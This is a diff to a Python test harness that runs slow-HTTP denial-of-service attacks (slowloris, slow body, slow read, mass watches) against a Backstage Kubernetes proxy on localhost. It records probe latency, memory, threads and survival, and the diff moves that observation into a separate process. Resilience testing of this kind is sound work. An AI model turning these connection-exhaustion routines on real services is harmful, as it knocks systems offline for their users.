@@ -12,6 +12,7 @@ import argparse
 import asyncio
 import collections
 import json
+import multiprocessing
 import os
 import resource
 import socket
@@ -22,6 +23,7 @@ MOUNT = "/api/kubernetes/proxy"
 PODS = b'{"kind":"PodList","apiVersion":"v1","items":[]}'
 EVENT = b'{"type":"ADDED","object":{"kind":"Pod","metadata":{"name":"p"}}}\n'
 PROBE_PATH = "/api/v1/namespaces/default/pods"
+HEALTH = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
 PROBE_TIMEOUT = 5.0  # a probe slower than this counts as failed: nobody waits longer for a list
 IO_TIMEOUT = 10.0
 CONNECTING_AT_ONCE = 200  # connects in flight, so that a crowd arrives quickly but not as one SYN flood
@@ -135,9 +137,10 @@ async def recv(sock, size, timeout):
     return await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, size), max(timeout, 0.001))
 
 
-def request(path, method="GET", extra="", mount=MOUNT, end=True):
-    return (f"{method} {mount}{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nBackstage-Kubernetes-Cluster: alpha\r\n"
-            f"{extra}" + ("Connection: close\r\n\r\n" if end else "")).encode()
+def request(path, method="GET", end=True):
+    """A request to cluster alpha; end=False leaves the head open for the caller to go on."""
+    return (f"{method} {MOUNT}{path} HTTP/1.1\r\nHost: 127.0.0.1\r\nBackstage-Kubernetes-Cluster: alpha\r\n"
+            + ("Connection: close\r\n\r\n" if end else "")).encode()
 
 
 def status_of(data):
@@ -182,57 +185,80 @@ class Probe:
 
     def __init__(self, port, raw):
         self.port, self.raw, self.results, self.tasks = port, raw, [], []
-        self.stopping = asyncio.Event()
-        self.runner = asyncio.create_task(self.run())
 
-    async def run(self):
-        while not self.stopping.is_set():
-            self.tasks.append(asyncio.create_task(self.one()))
-            await asyncio.sleep(0.2)
+    def tick(self):
+        self.tasks.append(asyncio.create_task(self.one()))
 
     async def one(self):
         start = time.monotonic()
         try:
-            data, _ = await fetch(self.port, self.raw)
-            ok = status_of(data) == 200
+            ok = status_of((await fetch(self.port, self.raw))[0]) == 200
         except TIMEOUTS:
             ok = False
         self.results.append((ok, time.monotonic() - start))
 
-    async def stop(self):
-        self.stopping.set()
-        await self.runner
+    async def summary(self):
         await asyncio.gather(*self.tasks)
         good = [s for ok, s in self.results if ok]
         return {"ok": len(good), "n": len(self.results), "p50": pct(good, 50), "p99": pct(good, 99),
                 "max": max(good, default=None)}
 
 
-class Sampler:
-    """VmRSS and Threads of the target from /proc every 250 ms: the peak is what the attack costs."""
+def proc_status(pid):
+    """(VmRSS in MiB, threads) of a process, or None once it has gone."""
+    try:
+        with open(f"/proc/{pid}/status") as status:
+            fields = dict(line.split(":", 1) for line in status)
+        return int(fields["VmRSS"].split()[0]) / 1024, int(fields["Threads"])
+    except (OSError, KeyError):
+        return None
 
-    def __init__(self, pid):
-        self.pid, self.samples = pid, []
-        self.runner = asyncio.create_task(self.run())
 
-    def read(self):
-        try:
-            with open(f"/proc/{self.pid}/status") as status:
-                fields = dict(line.split(":", 1) for line in status)
-            return int(fields["VmRSS"].split()[0]) / 1024, int(fields["Threads"])
-        except (OSError, KeyError):
-            return None  # the target has gone
+async def observe(port, pid, health, stopping, results):
+    """Probes every 200 ms and samples /proc every 250 ms until told to stop; sends the probes'
+    summaries and the peaks."""
+    probes = [Probe(port, request(PROBE_PATH))] + ([Probe(port, HEALTH)] if health else [])
+    samples, tick = [proc_status(pid) or (0, 0)], 0
+    results.send("ready")
+    while not stopping.is_set():
+        if tick % 4 == 0:
+            for probe in probes:
+                probe.tick()
+        if tick % 5 == 0:
+            samples.append(proc_status(pid) or (0, 0))
+        tick += 1
+        await asyncio.sleep(0.05)
+    results.send({"probes": [await p.summary() for p in probes],
+                  "rss_peak": max((s[0] for s in samples), default=None),
+                  "threads_peak": max((s[1] for s in samples), default=None)})
 
-    async def run(self):
-        while True:
-            sample = self.read()
-            if sample:
-                self.samples.append(sample)
-            await asyncio.sleep(0.25)
 
-    def stop(self):
-        self.runner.cancel()
-        return max((s[0] for s in self.samples), default=None), max((s[1] for s in self.samples), default=None)
+def observer_main(*args):
+    raise_fd_limit()
+    asyncio.run(observe(*args))
+
+
+class Observer:
+    """Probes and samples the target from a process of its own: the attack's event loop, busy
+    with thousands of sockets, would otherwise delay both and add its own lag to the latencies."""
+
+    def __init__(self, a):
+        context = multiprocessing.get_context("spawn")
+        self.stopping, (self.results, sender) = context.Event(), context.Pipe(False)
+        self.process = context.Process(target=observer_main, daemon=True, args=(
+            a.port, a.pid, a.target == "reference", self.stopping, sender))
+        self.process.start()
+
+    async def ready(self):
+        """Waits for the observer's first sample, so an attack starts with it watching."""
+        if await asyncio.to_thread(self.results.poll, 30):
+            self.results.recv()
+
+    async def stop(self):
+        self.stopping.set()
+        seen = await asyncio.to_thread(self.results.poll, 30)  # the last probes take up to 5 s
+        self.process.join(5)
+        return self.results.recv() if seen else {"probes": [], "rss_peak": None, "threads_peak": None}
 
 
 async def crowd(n, client):
@@ -243,20 +269,27 @@ async def crowd(n, client):
     return tally, times
 
 
+async def dial_counted(a, gate, tally, rcvbuf=None):
+    """dial() for one of a crowd: counts whether it connected."""
+    try:
+        sock = await dial(a.port, gate, rcvbuf)
+    except TIMEOUTS:
+        tally["could not connect"] += 1
+        return None
+    tally["connected"] += 1
+    return sock
+
+
 def closed_how(data):
     return f"answered {status_of(data)}" if status_of(data) else "closed"
 
 
-async def trickle(port, gate, tally, times, first, next_piece, every, until):
+async def trickle(a, gate, tally, times, first, next_piece, every, until):
     """Connects, sends `first`, then `next_piece(i)` every `every` seconds until `until`. Notes in
     `times` when the target answered or closed (seconds after connecting), else 'held'."""
-    try:
-        sock = await dial(port, gate)
-    except TIMEOUTS:
-        tally["could not connect"] += 1
+    sock, start, i = await dial_counted(a, gate, tally), time.monotonic(), 0
+    if not sock:
         return
-    start, i = time.monotonic(), 0
-    tally["connected"] += 1
     try:
         await send(sock, first)
         while time.monotonic() < until:
@@ -301,19 +334,15 @@ async def attack_slow_body(a):
         b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
     until = time.monotonic() + a.hold
     tally, times = await crowd(a.clients, lambda g, t, ts: trickle(
-        a.port, g, t, ts, head, lambda i: b" ", 5, until))
+        a, g, t, ts, head, lambda i: b" ", 5, until))
     return describe(tally, times, "ended by the target")
 
 
 async def slow_reader(a, gate, tally, times, until):
     """GET 1 MiB through a 4 KiB receive window, reading 16 bytes every 2 s."""
-    try:
-        sock = await dial(a.port, gate, rcvbuf=4096)
-    except TIMEOUTS:
-        tally["could not connect"] += 1
+    sock, start, seen = await dial_counted(a, gate, tally, rcvbuf=4096), time.monotonic(), b""
+    if not sock:
         return
-    tally["connected"] += 1
-    start, seen = time.monotonic(), b""
     try:
         await send(sock, request(PROBE_PATH + "?bytes=1048576"))
         while time.monotonic() < until:
@@ -322,12 +351,12 @@ async def slow_reader(a, gate, tally, times, until):
             except asyncio.TimeoutError:
                 break
             if not piece:
-                tally[f"{closed_how(seen)}, then closed"] += 1
+                tally[f"{closed_how(seen)}, closed before the end"] += 1
                 times.append(time.monotonic() - start)
                 return
             seen = seen if len(seen) > 16 else seen + piece
             await asyncio.sleep(2)
-        tally[f"reading {status_of(seen) or 'nothing yet'} at the end"] += 1
+        tally[f"answered {status_of(seen)}, still reading at the end" if seen else "no answer by the end"] += 1
     except TIMEOUTS:
         tally["reset"] += 1
     finally:
@@ -344,12 +373,9 @@ async def attack_slow_read(a):
 
 async def watcher(a, gate, tally, times, until):
     """One watch: the time from sending the request to its first event, then held open."""
-    try:
-        sock = await dial(a.port, gate)
-    except TIMEOUTS:
-        tally["could not connect"] += 1
+    sock, seen = await dial_counted(a, gate, tally), b""
+    if not sock:
         return
-    seen = b""
     try:
         sent = time.monotonic()
         await send(sock, request(PROBE_PATH + "?watch=1"))
@@ -388,7 +414,7 @@ async def attack_slowloris(a):
     first = request(PROBE_PATH, end=False)
     until = time.monotonic() + 3 * a.hold
     tally, times = await crowd(a.clients, lambda g, t, ts: trickle(
-        a.port, g, t, ts, first, lambda i: b"X-Slow-%d: %d\r\n" % (i, i), 10, until))
+        a, g, t, ts, first, lambda i: b"X-Slow-%d: %d\r\n" % (i, i), 10, until))
     return describe(tally, times, "cut by the target", f"still open at {3 * a.hold:.0f} s")
 
 
@@ -408,8 +434,8 @@ ATTACKS = {"1": attack_endless_head, "2a": attack_slow_body, "2b": attack_slow_r
 
 
 async def run_attack(a):
-    """Warms the target up, then runs one attack with the probes and the sampler around it, and
-    probes for 3 s more once every attacking connection is closed."""
+    """Warms the target up, runs one attack with the observer around it, then observes for 3 s
+    more once every attacking connection is closed."""
     warm = collections.Counter()
     for _ in range(200):
         try:
@@ -418,29 +444,27 @@ async def run_attack(a):
             warm[type(e).__name__] += 1
     if warm[200] < 190:
         sys.exit(f"hostile: {a.target} does not serve plain GETs before the attack: {dict(warm)}")
-    health = request("/healthz", mount="") if a.target == "reference" else None
-    sampler = Sampler(a.pid)
-    await asyncio.sleep(0.5)
-    rss_before = sampler.samples[-1][0] if sampler.samples else None
-    probes = [Probe(a.port, request(PROBE_PATH))] + ([Probe(a.port, health)] if health else [])
+    rss_before = (proc_status(a.pid) or (None,))[0]
+    observer = Observer(a)
+    await observer.ready()
     print(f"hostile: {a.target}: attack {a.attack} started", flush=True)
     start = time.monotonic()
     outcome = await ATTACKS[a.attack](a)
     took = time.monotonic() - start
-    during = [await p.stop() for p in probes]
+    during = await observer.stop()
     await asyncio.sleep(1)
-    probes = [Probe(a.port, request(PROBE_PATH))] + ([Probe(a.port, health)] if health else [])
+    observer = Observer(a)
+    await observer.ready()
     await asyncio.sleep(3)
-    after = [await p.stop() for p in probes]
-    rss_peak, threads_peak = sampler.stop()
-    alive = sampler.read() is not None
+    after = await observer.stop()
     oom = False
     if a.log and os.path.exists(a.log):
         with open(a.log, errors="replace") as log:
             oom = "OutOfMemoryError" in log.read()
     record = {"attack": a.attack, "target": a.target, "outcome": outcome, "seconds": took,
-              "during": during, "after": after, "rss_before": rss_before, "rss_peak": rss_peak,
-              "threads_peak": threads_peak, "alive": alive, "oom": oom}
+              "during": during["probes"], "after": after["probes"], "rss_before": rss_before,
+              "rss_peak": during["rss_peak"], "threads_peak": during["threads_peak"],
+              "alive": proc_status(a.pid) is not None, "oom": oom}
     print(f"hostile: {a.target}: attack {a.attack} done in {took:.0f} s: {outcome}", flush=True)
     with open(a.out, "a") as out:
         out.write(json.dumps(record) + "\n")
@@ -463,12 +487,12 @@ def table(results, out):
     with open(results) as lines:
         for r in map(json.loads, lines):
             health = (f"{probe_cell(r['during'][1])}; {probe_cell(r['after'][1])}"
-                      if len(r["during"]) > 1 else "-")
-            rss = f"{r['rss_before'] or 0:.0f} → {r['rss_peak'] or 0:.0f}"
+                      if len(r["during"]) > 1 and len(r["after"]) > 1 else "-")
+            rss = " → ".join("-" if v is None else f"{v:.0f}" for v in (r["rss_before"], r["rss_peak"]))
             state = ("gone" if not r["alive"] else "alive") + (", OutOfMemoryError in its log" if r["oom"] else "")
             rows.append(f"| {r['attack']} | {r['target']} | {r['outcome']} ({r['seconds']:.0f} s) | "
-                        f"{probe_cell(r['during'][0])} | {probe_cell(r['after'][0])} | {health} | "
-                        f"{r['threads_peak']} | {rss} | {state} |")
+                        f"{probe_cell((r['during'] or [None])[0])} | {probe_cell((r['after'] or [None])[0])} | {health} | "
+                        f"{r['threads_peak'] or '-'} | {rss} | {state} |")
     text = "\n".join(rows) + "\n"
     with open(out, "w") as f:
         f.write(text)
